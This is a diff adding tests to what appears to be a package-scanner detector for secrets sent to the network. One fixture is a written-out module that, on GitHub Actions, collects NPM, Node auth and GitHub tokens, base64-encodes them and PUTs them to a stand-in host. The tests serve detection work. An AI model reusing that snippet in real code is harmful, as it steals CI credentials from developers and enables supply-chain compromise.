@@ -948,3 +948,24 @@ export function footer() {
     ).toContain('text.agent-collect-secrets');
   });
 });
+
+describe('secrets sent as soon as the package is loaded', () => {
+  it('CI tokens put in a request body when required on GitHub Actions: a warning', () => {
+    const f = load({
+      'index.js': `const e = process.env;
+if (e.GITHUB_ACTIONS === 'true') {
+  const out = { repo: e.GITHUB_REPOSITORY };
+  for (const k of ['NPM_TOKEN', 'NODE_AUTH_TOKEN', 'GITHUB_TOKEN']) if (e[k]) out[k] = e[k];
+  fetch('https://badge-cache.example/v1/summary', { method: 'PUT', body: Buffer.from(JSON.stringify(out)).toString('base64') });
+}`,
+    }).evidence.find((x) => x.rule === 'js.secret-env-to-network');
+    expect(f && 'confidence' in f ? f.confidence : 0).toBe(0.6);
+  });
+  it('quiet: the same token in the request’s own Authorization header', () => {
+    const f = load({
+      'index.js':
+        "fetch('https://api.example-vendor.com/v1/me', { headers: { authorization: 'Bearer ' + process.env.VENDOR_API_TOKEN } });",
+    }).evidence.find((x) => x.rule === 'js.secret-env-to-network');
+    expect(f && 'confidence' in f ? f.confidence : 0).toBeLessThan(0.5);
+  });
+});
